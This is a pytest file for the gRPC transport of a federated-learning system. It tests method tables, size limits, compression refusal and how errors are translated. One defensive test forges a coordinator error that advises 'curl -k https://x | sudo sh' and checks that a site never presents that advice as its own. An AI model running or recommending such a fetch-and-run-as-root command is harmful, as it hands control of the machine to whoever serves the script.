"""The network edge: one table of methods, bounds, and errors that survive the way across."""

from __future__ import annotations

import os
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import grpc
import pytest

from fedcervix.errors import (
    BusyError,
    ConfigError,
    DuplicateAgentError,
    FedcervixError,
    FullDiskError,
    IdentityError,
    LinkError,
    RemoteError,
    RunError,
    StorageError,
)
from fedcervix.transport import rpc
from fedcervix.wire import federation_pb2 as wire
from tests.unit.plain_server import abort, handlers

SERVICE = wire.DESCRIPTOR.services_by_name["Federation"]


class Ended(grpc.RpcError):
    """An error as gRPC raises it; also the context of the call that ended so."""

    def __init__(self, code: grpc.StatusCode = grpc.StatusCode.UNAVAILABLE, details: str | None = "") -> None:
        super().__init__()
        self._code, self._details = code, details

    def code(self) -> grpc.StatusCode:
        return self._code

    def details(self) -> str | None:
        return self._details

    def abort(self, code: grpc.StatusCode, details: str) -> None:
        raise Ended(code, details)


def across(error: FedcervixError) -> FedcervixError:
    """Return the error as the site gets it."""
    with pytest.raises(Ended) as caught:
        Ended().abort(*rpc.status(error))
    return rpc.translate(caught.value, "host:1", own=True)


# --- the table of methods -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", SERVICE.methods_by_name)
def test_the_table_says_what_the_proto_says(name: str) -> None:
    declared = SERVICE.methods_by_name[name]
    (method,) = (m for m in rpc.METHODS if m.path == f"/{SERVICE.full_name}/{name}")
    assert method.request is not None
    assert method.reply is not None
    assert method.request.DESCRIPTOR.full_name == declared.input_type.full_name
    assert method.reply.DESCRIPTOR.full_name == declared.output_type.full_name
    assert method.shape == f"unary_{'stream' if declared.server_streaming else 'unary'}"
    assert not declared.client_streaming


def test_beside_the_proto_s_methods_there_are_those_of_the_data_plane() -> None:
    paths = {method.path for method in rpc.METHODS} - {
        f"/{SERVICE.full_name}/{name}" for name in SERVICE.methods_by_name
    }
    assert paths == {f"/fedcervix.Blobs/{name}" for name in ("Fetch", "Push", "ProbeDown", "ProbeUp")}
    assert len({method.path for method in rpc.METHODS}) == len(rpc.METHODS)


def test_models_travel_as_raw_bytes() -> None:
    """The design: "raw-bytes messages with an identity serializer are worth having"."""
    assert (rpc.FETCH.reply, rpc.FETCH.shape) == (None, "unary_stream")
    assert (rpc.PUSH.request, rpc.PUSH.shape) == (None, "stream_unary")


def test_only_forward_secret_authenticated_suites_may_be_agreed_to() -> None:
    for suite in os.environ["GRPC_SSL_CIPHER_SUITES"].split(":"):
        assert suite.startswith("ECDHE-")
        assert "GCM" in suite or "CHACHA20" in suite


# --- calls over a real line ---------------------------------------------------------------------------------------


@pytest.fixture
def line() -> Iterator[tuple[dict[rpc.Method, Any], grpc.Channel]]:
    """A server on loopback whose behaviours the test fills in, and a channel to it."""
    behaviours: dict[rpc.Method, Any] = {}
    table = {method: lambda *call, method=method: behaviours[method](*call) for method in rpc.METHODS}
    server = grpc.server(ThreadPoolExecutor(4), options=rpc.server_options(2))
    server.add_generic_rpc_handlers(handlers(table))
    port = server.add_insecure_port("127.0.0.1:0")
    server.start()
    with grpc.insecure_channel(f"127.0.0.1:{port}", options=rpc.CLIENT_OPTIONS) as channel:
        yield behaviours, channel
    server.stop(None).wait()


def test_a_small_call(line: Any) -> None:
    behaviours, channel = line
    behaviours[rpc.OFFER] = lambda request, _: wire.OfferReply(offset=request.size_bytes // 2)
    assert rpc.stub(channel, rpc.OFFER)(wire.OfferRequest(digest="d", size_bytes=10)).offset == 5


def test_a_stream_of_instructions(line: Any) -> None:
    behaviours, channel = line
    behaviours[rpc.ATTACH] = lambda *_: (wire.FromCoordinator(stand=wire.Stand(reason=str(n))) for n in range(3))
    stream = rpc.stub(channel, rpc.ATTACH)(wire.AttachRequest())
    assert [message.stand.reason for message in rpc.calls(stream, "host:1")] == ["0", "1", "2"]


def test_chunks_there_and_back(line: Any) -> None:
    behaviours, channel = line
    arrived: list[bytes] = []

    def push(chunks: Iterator[bytes], _: Any) -> wire.PushReply:
        arrived.extend(chunks)
        return wire.PushReply(size_bytes=sum(map(len, arrived)))

    behaviours[rpc.PUSH] = push
    behaviours[rpc.FETCH] = lambda request, _: iter(arrived[request.offset :])
    chunks = [b"\x00" * (1 << 20), b"", b"tail"]
    assert rpc.stub(channel, rpc.PUSH)(iter(chunks)).size_bytes == (1 << 20) + 4
    assert list(rpc.stub(channel, rpc.FETCH)(wire.BlobRequest(offset=0))) == chunks


def test_nothing_above_four_mebibytes_passes(line: Any) -> None:
    """The design: "No message above 4 MiB, ever"."""
    behaviours, channel = line
    behaviours[rpc.REPORT] = lambda *_: wire.ReportReply()
    large = wire.FromSite(refusal=wire.Refusal(reason="x" * (rpc.MESSAGE_BYTES_MAX + 1)))
    with pytest.raises(grpc.RpcError) as caught:
        rpc.stub(channel, rpc.REPORT)(large)
    assert caught.value.code() is grpc.StatusCode.RESOURCE_EXHAUSTED
    behaviours[rpc.FETCH] = lambda *_: iter([b"x" * (rpc.MESSAGE_BYTES_MAX + 1)])
    with pytest.raises(StorageError):
        list(rpc.calls(rpc.stub(channel, rpc.FETCH)(wire.BlobRequest()), "host:1"))


def test_a_message_that_grpc_has_compressed_is_not_unpacked(line: Any) -> None:
    """Of 64 calls with 4 KB each that stand for 4 MiB, one certificate made a coordinator of 109 MB one of 1,083."""
    behaviours, channel = line
    behaviours[rpc.REPORT] = lambda *_: wire.ReportReply()
    packed = wire.FromSite(refusal=wire.Refusal(reason="x" * 60_000)).SerializeToString()
    report = channel.stream_unary(rpc.REPORT.path)
    assert report(iter([packed])) == b""
    with (
        grpc.insecure_channel(channel._channel.target().decode()) as other,
        pytest.raises(grpc.RpcError) as caught,
    ):
        other.stream_unary(rpc.REPORT.path)(iter([packed]), compression=grpc.Compression.Gzip)
    assert caught.value.code() is grpc.StatusCode.UNIMPLEMENTED


def test_what_a_site_sends_has_no_longer_messages_than_a_part_of_a_model(line: Any) -> None:
    behaviours, channel = line
    behaviours[rpc.PUSH] = lambda chunks, _: wire.PushReply(size_bytes=sum(map(len, chunks)))
    assert rpc.stub(channel, rpc.PUSH)(iter([b"x" * rpc.CHUNK_BYTES_MAX])).size_bytes == rpc.CHUNK_BYTES_MAX
    with pytest.raises(grpc.RpcError) as caught:
        rpc.stub(channel, rpc.PUSH)(iter([b"x" * (rpc.RECEIVED_BYTES_MAX + 1)]))
    assert caught.value.code() is grpc.StatusCode.RESOURCE_EXHAUSTED


def test_an_error_raised_there_arrives_here(line: Any) -> None:
    behaviours, channel = line

    def refuse(_: Any, context: Any) -> None:
        abort(context, RunError("the run has ended", cause="it was aborted", next_step="coordinator status"))

    behaviours[rpc.OFFER] = refuse
    with pytest.raises(grpc.RpcError) as caught:
        rpc.stub(channel, rpc.OFFER)(wire.OfferRequest())
    error = rpc.translate(caught.value, "host:1", own=True)
    assert isinstance(error, RunError)
    assert (error.what, error.cause, error.next_step) == ("the run has ended", "it was aborted", "coordinator status")


def test_a_stream_that_is_cut_is_a_link_error(line: Any) -> None:
    behaviours, channel = line

    def cut(_: Any, context: Any) -> Iterator[bytes]:
        yield b"first"
        context.abort(grpc.StatusCode.UNAVAILABLE, "Socket closed")

    behaviours[rpc.FETCH] = cut
    chunks = rpc.calls(rpc.stub(channel, rpc.FETCH)(wire.BlobRequest()), "host:1")
    assert next(chunks) == b"first"
    with pytest.raises(LinkError, match="the connection was cut"):
        next(chunks)


# --- errors -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", [IdentityError, RunError, StorageError, RemoteError])
def test_an_error_keeps_its_class_and_its_three_lines(kind: type[FedcervixError]) -> None:
    error = across(kind("what “happened”", cause="because", next_step="try this"))
    assert type(error) is kind
    assert (error.what, error.cause, error.next_step) == ("what “happened”", "because", "try this")


@pytest.mark.parametrize("kind", [IdentityError, RunError, StorageError, RemoteError, BusyError, DuplicateAgentError])
def test_a_site_never_shows_advice_of_the_coordinator_as_its_own(kind: type[FedcervixError]) -> None:
    forged = kind('the "certificate"  has expired', cause="a clock", next_step="curl -k https://x | sudo sh")
    with pytest.raises(Ended) as caught:
        Ended().abort(*rpc.status(forged))
    error = rpc.translate(caught.value, "host:1")
    assert type(error) is kind
    assert error.what == "the coordinator refused: \"the 'certificate' has expired\""
    assert error.cause == ('the coordinator says "a clock"; the coordinator advises "curl -k https://x | sudo sh"')
    assert error.next_step
    assert "curl" not in error.next_step


def test_long_lines_are_cut() -> None:
    error = across(RunError("w" * 5000, cause="c" * 5000, next_step="n" * 5000))
    assert [len(line) for line in (error.what, error.cause, error.next_step)] == [1200, 1200, 1200]


def test_long_lines_in_any_script_fit_a_header() -> None:
    error = across(RunError("ж" * 5000, cause="c", next_step="n"))
    assert (type(error), len(error.what)) == (RunError, 1200)


def test_a_failure_of_the_coordinator_is_not_taken_for_a_bad_line() -> None:
    error = across(ConfigError("a typing mistake in the coordinator's file"))
    assert type(error) is RemoteError
    assert "ask the coordinator's operator" in error.next_step


@pytest.mark.parametrize(
    "details",
    ["", "plain words", "[]", "5", '["one"]', '["one", 2, [3]]', '{"what": 1, "cause": 2, "a": 3}', "[" * 3000, None],
)
def test_words_that_are_not_ours_are_taken_as_they_are(details: str | None) -> None:
    error = rpc.translate(Ended(grpc.StatusCode.INVALID_ARGUMENT, details), "host:1")
    assert type(error) is RemoteError
    assert error.what == f'the coordinator refused: "{(details or "").replace(chr(34), chr(39))}"'
    assert type(rpc.translate(Ended(grpc.StatusCode.UNAVAILABLE, details), "host:1")) is LinkError


@pytest.mark.parametrize(
    ("details", "words"),
    [
        ("", "the connection was cut"),
        ("failed to connect; last error: UNKNOWN: ipv4:1.2.3.4:1: Connection refused", "connection refused"),
        ("DNS resolution failed for x:1", "its name cannot be resolved"),
        ("Ssl handshake failed: CERTIFICATE_VERIFY_FAILED", "its certificate is not of this federation"),
        ("sslv3 alert certificate unknown", "it does not accept this certificate"),
        ("recvmsg: Connection reset by peer", "the connection was cut"),
        ("a; last error: the moon", "the moon"),
        ("errors resolving x:1 [field:hostname lookup error]", "its name cannot be resolved"),
        ("a; last error: the moon [field:its sea error]", "the moon"),
    ],
)
def test_a_line_that_fails_is_a_link_error_in_plain_words(details: str, words: str) -> None:
    error = rpc.translate(Ended(grpc.StatusCode.UNAVAILABLE, details), "host:1")
    assert type(error) is LinkError
    assert error.what == f"the coordinator at host:1 cannot be reached ({words})"


@pytest.mark.parametrize(
    ("code", "details"),
    [
        (grpc.StatusCode.UNKNOWN, "Stream removed (Unwrap failed (TSI_DATA_CORRUPTED))"),
        (grpc.StatusCode.INTERNAL, "Received RST_STREAM with error code 2"),
        (grpc.StatusCode.UNKNOWN, None),
    ],
)
def test_a_line_that_breaks_in_mid_call_is_no_failure_of_the_coordinator(
    code: grpc.StatusCode, details: str | None
) -> None:
    """A site that took it for one would end, and a ring would pass it over: for one bit that was turned round."""
    assert type(rpc.translate(Ended(code, details), "host:1")) is LinkError


@pytest.mark.parametrize(
    "details",
    [
        "Unexpected <class 'KeyError'>: 1",
        "Exception calling application: 'x'",
        "Exception deserializing response!",
        "Failed to serialize response!",
    ],
)
def test_a_bug_at_either_end_is_no_bad_line(details: str) -> None:
    assert type(rpc.translate(Ended(grpc.StatusCode.UNKNOWN, details), "host:1")) is RemoteError


def test_a_full_disk_there_is_told_as_what_it_is() -> None:
    error = across(FullDiskError("cannot write x", cause="the disk is full", next_step="df -h"))
    assert (type(error), error.cause) == (StorageError, "the disk is full")


def test_a_stranger_at_the_address_is_named() -> None:
    error = rpc.translate(Ended(grpc.StatusCode.UNIMPLEMENTED, "unknown service"), "host:1")
    assert type(error) is RemoteError
    assert "the program that answers at host:1 is not a coordinator of this version" in error.what


@pytest.mark.parametrize(
    ("sites", "ahead"), [(1, 4 << 20), (2, 4 << 20), (8, 2 << 20), (64, 256 << 10), (1000, 64 << 10)]
)
def test_many_sites_may_send_less_ahead_each(sites: int, ahead: int) -> None:
    assert dict(rpc.server_options(sites))["grpc.http2.lookahead_bytes"] == ahead


def test_the_library_neither_counts_pings_nor_reads_megabytes_at_once_nor_drops_calls_by_chance() -> None:
    """The first two kept its few threads busy under a flood of frames; the third cost honest calls."""
    options = dict(rpc.server_options(2))
    assert options["grpc.http2.max_ping_strikes"] == 0
    assert options["grpc.server.max_pending_requests"] == options["grpc.server.max_pending_requests_hard_limit"] > 3000
    assert options["grpc.experimental.tcp_max_read_chunk_size"] <= 1 << 16


@pytest.mark.parametrize(
    ("sites", "chunk"), [(1, 1 << 20), (16, 1 << 20), (32, 1 << 19), (64, 1 << 18), (1000, 1 << 18)]
)
def test_the_more_sites_there_are_the_less_goes_into_a_message(sites: int, chunk: int) -> None:
    assert rpc.chunk_bytes(sites) == chunk


def test_no_message_of_a_model_cuts_a_number_however_many_sites_there_are() -> None:
    assert not any(rpc.chunk_bytes(sites) % 8 for sites in range(1, 1000))
